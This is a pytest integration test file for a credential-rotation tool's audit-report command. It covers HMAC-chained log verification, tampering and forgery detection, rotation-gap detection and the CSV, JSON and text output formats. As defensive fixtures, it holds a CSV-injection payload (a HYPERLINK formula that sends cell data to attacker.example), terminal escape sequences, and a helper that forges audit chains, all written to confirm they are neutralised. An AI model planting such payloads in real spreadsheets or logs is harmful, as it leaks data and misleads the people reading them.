"""`rotator audit report` over audit files written by real rotations (issue #19).

The trail comes from the CLI run in process against the Salesforce-compatible endpoint:
keys init/import, rotations (one failing on a 5xx), a staged, published and promoted key, a
staged and discarded one, an expiry warning. Gap tests replay real rotation events through
the real audit writer at chosen times (the writer keeps the `ts` it is given), under the
installation key the CLI made: every chain here is a keyed (HMAC) chain, as the daemon writes.
"""

from __future__ import annotations

import csv
import io
import json
import secrets
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.x509.oid import NameOID

from rotator.audit import fingerprint as audit_hash
from rotator.audit import pipeline as audit
from rotator.audit.chain import GENESIS, MAC, AuditFile, _render, line_hash, verify
from rotator.audit.fingerprint import key_path_for, read_key_file
from rotator.audit.report import CSV_COLUMNS, EVENT_COLUMNS, SCHEMA, run_report
from rotator.config import load_config
from rotator.keys.crypto import cert_info, load_certificate
from tests.conftest import CLIENT_ID, USERNAME, write_config

pytestmark = pytest.mark.integration

OTHER_APP = "3MVG9other.connected.app"


@pytest.fixture(autouse=True)
def _fresh_pipeline() -> Any:
    """No audit file or installation key carries over between tests."""
    audit.configure(stream=io.StringIO())
    audit_hash.use_ephemeral_key()
    yield
    audit.configure(stream=io.StringIO())
    audit_hash.use_ephemeral_key()


def sha(pem: str) -> str:
    return cert_info(load_certificate(pem)).sha256


def aged_pair(tmp_path: Path, *, age_days: float, lifetime_days: float) -> tuple[Path, Path, str]:
    """A key and a certificate issued `age_days` ago: it can cross an expiry threshold now."""
    key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "aged")])
    start = datetime.now(UTC) - timedelta(days=age_days)
    cert = (x509.CertificateBuilder().subject_name(name).issuer_name(name)
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(start).not_valid_after(start + timedelta(days=lifetime_days))
            .sign(key, hashes.SHA256()))
    key_file, cert_file = tmp_path / "aged.key", tmp_path / "aged.crt"
    key_file.write_bytes(key.private_bytes(serialization.Encoding.PEM,
                                           serialization.PrivateFormat.PKCS8,
                                           serialization.NoEncryption()))
    cert_pem = cert.public_bytes(serialization.Encoding.PEM).decode()
    cert_file.write_text(cert_pem)
    return key_file, cert_file, cert_pem


@pytest.fixture
def trail(tmp_path: Path, endpoint: Any, run_cli) -> dict[str, Any]:
    """A real audit file: what happened is returned next to it, for the assertions."""
    cfg = write_config(
        tmp_path / "rotator.toml", login_url=endpoint.url, daemon={"audit_log": "audit.jsonl"},
        credentials={"sf": {"publish_file": "sf-pending.pem"},
                     "other": {"client_id": OTHER_APP, "expiry_warnings": [20]}})

    def ok(*args: str) -> str:
        result = run_cli("--config", cfg, *args)
        assert result.code == 0, result.err
        return result.out

    sf_first = ok("keys", "init", "sf")
    endpoint.register_app(CLIENT_ID, sf_first, users=[USERNAME])
    key_file, cert_file, other_pem = aged_pair(tmp_path, age_days=15, lifetime_days=30)
    ok("keys", "import", "other", "--key", str(key_file), "--cert", str(cert_file))
    endpoint.register_app(OTHER_APP, other_pem, users=[USERNAME])
    ok("rotate", "sf")
    ok("rotate", "other")  # 15 days left, threshold 20: one expiry warning
    ok("rotate", "sf", "--force")
    endpoint.set_fault("5xx", count=1)
    assert run_cli("--config", cfg, "rotate", "sf", "--force").code == 1
    staged = ok("keys", "rotate", "sf")
    endpoint.upload_certificate(CLIENT_ID, staged)
    ok("keys", "promote", "sf")
    dropped = ok("keys", "rotate", "sf")
    ok("keys", "discard", "sf")
    path = tmp_path / "audit.jsonl"
    # The installation key the CLI made, where the config says it lives (beside the log here).
    key_file = key_path_for(load_config(cfg).daemon)
    assert key_file is not None and key_file.exists()
    key = read_key_file(key_file)
    assert verify([path], key=key).ok and verify([path], key=key).keyed
    return {"path": path, "config": cfg, "key": key, "key_file": key_file, "first": sha(sf_first),
            "promoted": sha(staged), "dropped": sha(dropped), "other": sha(other_pem)}


def report(paths: list[Path], *, key: bytes | None, **kwargs: Any) -> tuple[int, dict[str, Any]]:
    out = io.StringIO()
    code = run_report(paths, fmt="json", out=out, key=key, **kwargs)
    return code, json.loads(out.getvalue())


def by_name(data: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {c["credential"]: c for c in data["credentials"]}


# ---------------------------------------------------------------------------- what happened


def test_counts_and_first_last_per_credential(trail: dict[str, Any]) -> None:
    """Rotations succeeded / failed per credential, first and last, from one real file."""
    code, data = report([trail["path"]], key=trail["key"])
    assert code == 0 and data["chain"]["verified"] and data["chain"]["unverified_lines"] == 0
    creds = by_name(data)
    assert set(creds) == {"sf", "other"}
    sf = creds["sf"]
    assert sf["rotations"] == {"succeeded": 2, "failed": 1, "skipped": 0}
    assert sf["last_failure_class"] == "EndpointUnavailable"
    assert sf["first_rotation"] < sf["last_rotation"] == sf["last_failure"]
    assert creds["other"]["rotations"] == {"succeeded": 1, "failed": 0, "skipped": 0}


def test_key_changes_carry_fingerprints(trail: dict[str, Any]) -> None:
    """created; staged, published, promoted (replacing the first key); staged, published,
    discarded. The imported key of the other credential."""
    _, data = report([trail["path"]], key=trail["key"])
    changes = [(k["change"], k["key_sha256"]) for k in by_name(data)["sf"]["key_changes"]]
    promoted, dropped = trail["promoted"], trail["dropped"]
    assert changes == [("created", trail["first"]),
                       ("staged", promoted), ("published", promoted), ("promoted", promoted),
                       ("staged", dropped), ("published", dropped), ("discarded", dropped)]
    promotion = by_name(data)["sf"]["key_changes"][3]
    assert promotion["previous_sha256"] == trail["first"] and promotion["verified"] is True
    assert [(k["change"], k["key_sha256"]) for k in by_name(data)["other"]["key_changes"]] == [
        ("imported", trail["other"])]


def test_expiry_warning_is_reported(trail: dict[str, Any]) -> None:
    _, data = report([trail["path"]], key=trail["key"])
    (warning,) = by_name(data)["other"]["expiry_warnings"]
    assert warning["threshold"] == 20 and warning["key_sha256"] == trail["other"]
    assert 14 < warning["days_left"] < 16
    assert by_name(data)["sf"]["expiry_warnings"] == []


def test_filters_by_credential_event_and_time(trail: dict[str, Any]) -> None:
    path, key = trail["path"], trail["key"]
    _, only_other = report([path], key=key, credential="other")
    assert list(by_name(only_other)) == ["other"]
    _, keys_only = report([path], key=key, event="key.*")
    sf = by_name(keys_only)["sf"]
    assert sf["rotations"] == {"succeeded": 0, "failed": 0, "skipped": 0}
    assert len(sf["key_changes"]) == 7 and len(by_name(keys_only)["other"]["key_changes"]) == 1
    _, failures = report([path], key=key, event=["rotation.failed"])
    assert by_name(failures)["sf"]["rotations"]["failed"] == 1 and failures["events"] == 1
    _, future = report([path], key=key, since="2999-01-01")
    assert future["credentials"] == [] and future["events"] == 0
    _, past = report([path], key=key, until="1d")  # everything is younger than a day
    assert past["credentials"] == []
    _, recent = report([path], key=key, since="1h")
    assert by_name(recent)["sf"]["rotations"]["succeeded"] == 2


def test_bad_time_is_a_usage_error(trail: dict[str, Any], run_cli) -> None:
    result = run_cli("audit", "report", trail["path"], "--since", "last tuesday")
    assert result.code == 2 and "--since 'last tuesday': not a time" in result.err
    assert run_cli("audit", "report", trail["path"].with_name("missing.jsonl")).code == 2


# ---------------------------------------------------------------------------- tampering


def test_tampered_file_is_reported_with_the_line_and_the_rest_unverified(trail: dict[str, Any]) -> None:
    """A failure rewritten as a success: exit 1, FILE:LINE named, the report still printed
    and the forged line counted as unverified."""
    path = trail["path"]
    lines = path.read_text().splitlines(keepends=True)
    index = next(i for i, line in enumerate(lines) if '"event":"rotation.failed"' in line)
    lines[index] = lines[index].replace('"rotation.failed"', '"rotation.succeeded"')
    path.write_text("".join(lines))
    code, data = report([path], key=trail["key"])
    assert code == 1
    chain = data["chain"]
    assert not chain["verified"] and chain["problem"]
    # the forged line, or the one after it (whose prev no longer matches), is named
    assert chain["broken_at"] in (f"{path}:{index + 1}", f"{path}:{index + 2}")
    assert chain["unverified_lines"] >= len(lines) - index - 1
    sf = by_name(data)["sf"]
    assert sf["unverified_events"] > 0 and sf["rotations"]["succeeded"] == 3  # read, not hidden
    verified = [(k["change"], k["verified"]) for k in sf["key_changes"]]
    assert verified[0] == ("created", True)  # before the forged line
    assert all(not ok for _, ok in verified[1:])  # after it
    text = io.StringIO()
    assert run_report([path], out=text, key=trail["key"]) == 1
    assert "chain: BROKEN" in text.getvalue() and chain["broken_at"] in text.getvalue()
    assert "sf *" in text.getvalue()


def test_rotated_files_are_read_oldest_first(tmp_path: Path, trail: dict[str, Any]) -> None:
    """The same events across rotated files (real writer, tiny max_bytes) give the same counts;
    files in the wrong order break the chain."""
    events = [json.loads(line) for line in trail["path"].read_text().splitlines()][1:]
    target = tmp_path / "rotated" / "audit.jsonl"
    target.parent.mkdir()
    size = trail["path"].stat().st_size
    # 4 to 5 files: none dropped (5 are kept); keyed, as the daemon writes under its key
    writer = AuditFile(target, max_bytes=size // 4, key=trail["key"])
    for event in events:
        writer.append(event)
    files = [target.with_name(f"audit.jsonl.{i}") for i in range(5, 0, -1)]
    files = [f for f in files if f.exists()] + [target]
    assert len(files) >= 3
    code, data = report(files, key=trail["key"])
    code_one, one = report([trail["path"]], key=trail["key"])
    assert code == code_one == 0
    assert [c["rotations"] for c in data["credentials"]] == [c["rotations"] for c in one["credentials"]]
    code, backwards = report(list(reversed(files)), key=trail["key"])
    assert code == 1 and "oldest first" in backwards["chain"]["problem"]


# ---------------------------------------------------------------------------- gaps


def replay(path: Path, template: list[dict[str, Any]], offsets_min: list[float], key: bytes) -> Path:
    """One real rotation's events appended through the real writer (keyed), once per offset."""
    start = datetime(2026, 11, 1, tzinfo=UTC)
    writer = AuditFile(path, max_bytes=1 << 30, key=key)
    for offset in offsets_min:
        ts = (start + timedelta(minutes=offset)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
        for event in template:
            writer.append({**event, "ts": ts})
    return path


@pytest.fixture
def retimed(tmp_path: Path, trail: dict[str, Any]) -> Path:
    events = [json.loads(line) for line in trail["path"].read_text().splitlines()]
    first_ok = next(e for e in events if e["event"] == "rotation.succeeded" and e["credential"] == "sf")
    template = [e for e in events if e.get("rotation_id") == first_ok["rotation_id"]]
    assert [e["event"] for e in template][-1] == "rotation.succeeded"
    # every 30 min, then 3.5 h of nothing, then on schedule again
    return replay(tmp_path / "retimed.jsonl", template, [0, 30, 60, 90, 300, 330, 360], trail["key"])


def test_gaps_from_the_schedule(retimed: Path, trail: dict[str, Any]) -> None:
    """every 30m, no jitter: allowed 30m + 10% = 33m; the 3.5 h interval is the one gap."""
    code, data = report([retimed], key=trail["key"], schedules={"sf": (1800.0, 0.0)})
    assert code == 0
    sf = by_name(data)["sf"]
    assert sf["rotations"]["succeeded"] == 7
    assert sf["gap_rule"] == {"source": "config", "every_seconds": 1800.0, "jitter_seconds": 0.0,
                              "allowed_seconds": 1980.0}
    assert sf["gaps"] == [{"from": "2026-11-01T01:30:00.000000Z", "to": "2026-11-01T05:00:00.000000Z",
                           "seconds": 12600.0, "allowed_seconds": 1980.0}]
    _, tight = report([retimed], key=trail["key"], schedules={"sf": (1500.0, 0.0)})  # every 25m: all late
    assert len(by_name(tight)["sf"]["gaps"]) == 6


def test_gaps_inferred_from_the_median(retimed: Path, trail: dict[str, Any]) -> None:
    """No schedule: twice the median interval (30 min) is allowed."""
    _, data = report([retimed], key=trail["key"])
    sf = by_name(data)["sf"]
    assert sf["gap_rule"]["source"] == "median" and sf["gap_rule"]["median_seconds"] == 1800.0
    assert [g["seconds"] for g in sf["gaps"]] == [12600.0]


def test_too_few_rotations_infer_no_gaps(retimed: Path, trail: dict[str, Any]) -> None:
    _, data = report([retimed], key=trail["key"], since="2026-11-01T04:00:00Z")  # 3 successes, 2 intervals
    sf = by_name(data)["sf"]
    assert sf["rotations"]["succeeded"] == 3
    assert sf["gaps"] == [] and sf["gap_rule"]["source"] == "none"


def test_time_window_on_known_times(retimed: Path, trail: dict[str, Any]) -> None:
    _, data = report([retimed], key=trail["key"], since="2026-11-01T00:45:00Z", until="2026-11-01T05:00:00Z")
    assert by_name(data)["sf"]["rotations"]["succeeded"] == 3  # 60, 90 and 300 min


def test_cli_uses_the_config_schedule(retimed: Path, trail: dict[str, Any], run_cli) -> None:
    """With --config the gap rule is the config's `every` (30m in the test config)."""
    result = run_cli("--config", trail["config"], "audit", "report", retimed, "--json")
    assert result.code == 0, result.err
    sf = by_name(json.loads(result.out))["sf"]
    assert sf["gap_rule"]["source"] == "config" and len(sf["gaps"]) == 1
    text = run_cli("audit", "report", retimed, "--key-file", trail["key_file"])  # no config: no schedule
    assert text.code == 0, text.err
    assert "gap of 3h30m until 2026-11-01 05:00:00 (allowed 1h)" in text.out


# ---------------------------------------------------------------------------- output shapes


def test_json_schema(trail: dict[str, Any], run_cli) -> None:
    result = run_cli("--config", trail["config"], "audit", "report", trail["path"], "--json")
    data = json.loads(result.out)
    assert result.code == 0 and data["schema"] == SCHEMA
    assert set(data) == {"schema", "generated_at", "files", "filters", "chain", "events", "credentials"}
    assert set(data["chain"]) == {"verified", "keyed", "lines", "chain", "head", "from_genesis",
                                  "problem", "broken_at", "unverified_lines"}
    assert data["chain"]["head"] == verify([trail["path"]], key=trail["key"]).head
    assert data["chain"]["keyed"] is True and data["chain"]["verified"] is True
    for cred in data["credentials"]:
        assert set(cred) == {"credential", "rotations", "first_rotation", "last_rotation",
                             "last_success", "last_failure", "last_failure_class", "key_changes",
                             "expiry_warnings", "gaps", "gap_rule", "unverified_events"}


def test_csv_one_row_per_credential(trail: dict[str, Any], run_cli) -> None:
    result = run_cli("audit", "report", trail["path"], "--csv", "--key-file", trail["key_file"])
    rows = list(csv.DictReader(io.StringIO(result.out)))
    assert result.code == 0 and list(rows[0]) == list(CSV_COLUMNS)
    by = {r["credential"]: r for r in rows}
    assert set(by) == {"sf", "other"}
    assert (by["sf"]["succeeded"], by["sf"]["failed"], by["sf"]["key_changes"]) == ("2", "1", "7")
    assert by["sf"]["last_key_sha256"] == trail["promoted"] and by["other"]["expiry_warnings"] == "1"
    assert by["other"]["last_key_sha256"] == trail["other"]  # imported, never rolled
    assert by["sf"]["chain_verified"] == "true"


def test_csv_events_one_row_per_event(trail: dict[str, Any], run_cli) -> None:
    result = run_cli("--config", trail["config"], "audit", "report", trail["path"], "--csv-events",
                     "--credential", "sf",
                     "--event", "rotation.succeeded,rotation.failed")
    rows = list(csv.DictReader(io.StringIO(result.out)))
    assert result.code == 0 and list(rows[0]) == list(EVENT_COLUMNS)
    assert [r["event"] for r in rows] == ["rotation.succeeded", "rotation.succeeded", "rotation.failed"]
    assert rows[2]["detail"] == "EndpointUnavailable" and rows[2]["outcome"] == "failure"
    assert all(r["verified"] == "true" and r["where"].startswith(str(trail["path"])) for r in rows)


def test_text_table_is_aligned(trail: dict[str, Any], run_cli) -> None:
    result = run_cli("--config", trail["config"], "audit", "report", trail["path"])
    lines = result.out.splitlines()
    assert result.code == 0 and lines[0].startswith("CREDENTIAL")
    header, other, sf = lines[0], lines[1], lines[2]
    assert other.startswith("other") and sf.startswith("sf ")
    # right-aligned counts end in the same column as their heading
    ok_end = header.index("OK") + 2
    assert other[:ok_end].endswith("1") and sf[:ok_end].endswith("2")
    assert f"key promoted  {trail['promoted'][:16]} (replaces {trail['first'][:16]})" in result.out
    assert "chain: ok" in result.out and ", keyed" in result.out


def test_text_output_neutralises_escape_sequences(tmp_path: Path) -> None:
    """A line with terminal escapes (written through the real writer, so the chain holds)
    cannot clear the screen or rewrite lines: control characters print as '?'."""
    path, key = tmp_path / "audit.jsonl", secrets.token_bytes(32)
    writer = AuditFile(path, max_bytes=1 << 20, key=key)
    evil = "x\x1b[2J\x1b[1A\rforged\x07" + "y" * 200
    writer.append({"ts": "2026-11-01T00:00:00.000000Z", "event": "rotation.failed", "level": "error",
                   "credential": evil, "error_class": "\x1b]0;title\x07", "outcome": "failure"})
    out = io.StringIO()
    assert run_report([path], out=out, key=key) == 0
    text = out.getvalue()
    assert not any((ord(ch) < 0x20 and ch != "\n") or 0x7F <= ord(ch) < 0xA0 for ch in text)
    assert "x?[2J?[1A?forged?" in text and "(?]0;title?)" in text
    assert max(len(line) for line in text.splitlines()[:2]) < 200  # long names are cut


def test_without_files_the_config_audit_log_and_its_copies_are_read(
    tmp_path: Path, trail: dict[str, Any], run_cli
) -> None:
    """`rotator --config X audit report`: daemon.audit_log, rotated copies first."""
    events = [json.loads(line) for line in trail["path"].read_text().splitlines()][1:]
    trail["path"].unlink()
    writer = AuditFile(trail["path"], max_bytes=sum(len(json.dumps(e)) for e in events) // 3,
                       key=trail["key"])
    for event in events:
        writer.append(event)
    assert trail["path"].with_name("audit.jsonl.1").exists()
    result = run_cli("--config", trail["config"], "audit", "report", "--json")  # no --key-file
    assert result.code == 0, result.err
    data = json.loads(result.out)
    assert data["chain"]["verified"] and data["chain"]["keyed"]
    assert data["files"][-1] == str(trail["path"]) and len(data["files"]) >= 3
    assert by_name(data)["sf"]["rotations"] == {"succeeded": 2, "failed": 1, "skipped": 0}
    bare = run_cli("audit", "report")
    assert bare.code == 2 and "name at least one audit file" in bare.err


# ---------------------------------------------------------------------------- forged chains


def forge(path: Path, events: list[dict[str, Any]], *, keyed_anchor: bool) -> Path:
    """A chain written from scratch by someone without the key: SHA-256 links (all a forger
    can compute), the anchor optionally claiming `"mac": "hmac-sha256"`."""
    anchor: dict[str, Any] = {"ts": events[0]["ts"], "event": "audit.anchor", "level": "info",
                              "chain": secrets.token_hex(16), "reason": "new"}
    if keyed_anchor:
        anchor["mac"] = MAC
    prev, lines = GENESIS, []
    for seq, event in enumerate([anchor, *events]):
        line = _render(event, seq, prev)
        lines.append(line + b"\n")
        prev = line_hash(line)
    path.write_bytes(b"".join(lines))
    return path


def assert_all_unverified(code: int, data: dict[str, Any]) -> None:
    assert code == 1 and not data["chain"]["verified"] and data["chain"]["problem"]
    assert data["chain"]["unverified_lines"] == data["chain"]["lines"] > 1
    for cred in data["credentials"]:
        assert cred["unverified_events"] > 0
        assert all(not k["verified"] for k in cred["key_changes"])


def test_a_chain_forged_without_the_key_is_never_verified(
    tmp_path: Path, trail: dict[str, Any], run_cli
) -> None:
    """The real events re-chained from scratch (a failure turned into a success): with a
    keyed anchor and SHA links, with a plain legacy chain, and under a wrong key. Exit 1,
    nothing marked verified, in the JSON, CSV and text output alike."""
    events = [json.loads(line) for line in trail["path"].read_text().splitlines()][1:]
    for event in events:
        if event["event"] == "rotation.failed":
            event["event"] = "rotation.succeeded"
    keyed = forge(tmp_path / "forged-keyed.jsonl", events, keyed_anchor=True)
    legacy = forge(tmp_path / "forged-legacy.jsonl", events, keyed_anchor=False)
    wrong = tmp_path / "wrong-key.jsonl"
    writer = AuditFile(wrong, max_bytes=1 << 30, key=secrets.token_bytes(32))
    for event in events:
        writer.append(event)
    for path in (keyed, legacy, wrong):
        code, data = report([path], key=trail["key"])
        assert_all_unverified(code, data)
        assert data["chain"]["broken_at"].startswith(str(path))
        result = run_cli("--config", trail["config"], "audit", "report", path, "--csv-events")
        assert result.code == 1, result.err
        rows = list(csv.DictReader(io.StringIO(result.out.split("# chain broken")[0])))
        assert rows and all(r["verified"] == "false" for r in rows)
        text = run_cli("--config", trail["config"], "audit", "report", path)
        assert text.code == 1 and "chain: BROKEN" in text.out and "chain: ok" not in text.out
    assert "does not match under this key" in report([wrong], key=trail["key"])[1]["chain"]["problem"]
    assert "unkeyed" in report([legacy], key=trail["key"])[1]["chain"]["problem"]
    # Without any key a keyed chain cannot be checked at all: a usage error, not a report.
    no_key = run_cli("audit", "report", keyed)
    assert no_key.code == 2 and "needs the installation's audit HMAC key" in no_key.err
    assert "chain: ok" not in no_key.out


def test_allow_unkeyed_reads_a_legacy_file(tmp_path: Path, trail: dict[str, Any], run_cli) -> None:
    """A file from before keyed chains (the real writer without a key): refused as evidence
    by default (exit 1, all unverified), verified as a legacy chain with --allow-unkeyed."""
    events = [json.loads(line) for line in trail["path"].read_text().splitlines()][1:]
    legacy = tmp_path / "legacy.jsonl"
    writer = AuditFile(legacy, max_bytes=1 << 30)
    for event in events:
        writer.append(event)
    assert_all_unverified(*report([legacy], key=None))
    result = run_cli("audit", "report", legacy, "--json", "--allow-unkeyed")
    assert result.code == 0, result.err
    data = json.loads(result.out)
    assert data["chain"]["verified"] and not data["chain"]["keyed"]
    assert data["chain"]["head"] == verify([legacy], allow_unkeyed=True).head
    assert by_name(data)["sf"]["rotations"] == {"succeeded": 2, "failed": 1, "skipped": 0}
    assert by_name(data)["sf"]["unverified_events"] == 0
    text = run_cli("audit", "report", legacy, "--allow-unkeyed")
    assert text.code == 0 and "UNKEYED (legacy" in text.out
    # A tampered legacy file still breaks with --allow-unkeyed.
    lines = legacy.read_text().splitlines(keepends=True)
    index = next(i for i, line in enumerate(lines) if '"event":"rotation.failed"' in line)
    lines[index] = lines[index].replace('"rotation.failed"', '"rotation.succeeded"')
    legacy.write_text("".join(lines))
    code, data = report([legacy], key=None, allow_unkeyed=True)
    assert code == 1 and data["chain"]["broken_at"] in (f"{legacy}:{index + 1}", f"{legacy}:{index + 2}")


def test_legacy_files_continued_by_a_keyed_chain_are_verified(tmp_path: Path, trail: dict[str, Any]) -> None:
    """An installation upgraded to keyed chains: the old legacy file, then the writer with the
    key moves it aside and anchors a keyed file onto its last line. The legacy lines are
    pinned by that anchor: all verified, no --allow-unkeyed needed."""
    events = [json.loads(line) for line in trail["path"].read_text().splitlines()][1:]
    path = tmp_path / "up" / "audit.jsonl"
    path.parent.mkdir()
    old = AuditFile(path, max_bytes=1 << 30)
    for event in events[:5]:
        old.append(event)
    new = AuditFile(path, max_bytes=1 << 30, key=trail["key"])
    for event in events[5:]:
        new.append(event)
    files = [path.with_name("audit.jsonl.1"), path]
    assert files[0].exists()
    code, data = report(files, key=trail["key"])
    assert code == 0 and data["chain"]["verified"] and data["chain"]["keyed"]
    assert data["chain"]["unverified_lines"] == 0
    assert by_name(data)["sf"]["rotations"] == {"succeeded": 2, "failed": 1, "skipped": 0}
    code, wrong = report(files, key=secrets.token_bytes(32))  # the pin needs the right key
    assert code == 1 and wrong["chain"]["unverified_lines"] == wrong["chain"]["lines"]


def test_csv_cells_cannot_run_as_spreadsheet_formulas(tmp_path: Path, trail: dict[str, Any], run_cli) -> None:
    """A name or reason in a (validly chained) audit line that starts like a formula is written
    with a leading apostrophe, so a spreadsheet shows it as text (CSV injection)."""
    evil = '=HYPERLINK("https://attacker.example/?x="&A1,"ok")'
    events = [json.loads(line) for line in trail["path"].read_text().splitlines()]
    failed = next(e for e in events if e["event"] == "rotation.failed")
    template = [{**e, "credential": evil, **({"reason": "@SUM(1+1)"} if e is failed else {})}
                for e in events if e.get("rotation_id") == failed["rotation_id"]]
    path = replay(tmp_path / "evil.jsonl", template, [0], trail["key"])
    per_credential = run_cli("audit", "report", path, "--csv", "--key-file", trail["key_file"])
    rows = list(csv.DictReader(io.StringIO(per_credential.out)))
    assert per_credential.code == 0 and rows[0]["chain_verified"] == "true"
    assert [r["credential"] for r in rows] == ["'" + evil]
    assert rows[0]["failed"] == "1"  # numbers stay numbers
    per_event = run_cli("audit", "report", path, "--csv-events", "--key-file", trail["key_file"])
    event_rows = list(csv.DictReader(io.StringIO(per_event.out)))
    assert event_rows and {r["credential"] for r in event_rows} == {"'" + evil}
    assert "'@SUM(1+1)" in {r["detail"] for r in event_rows}
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in event_rows for cell in r.values())
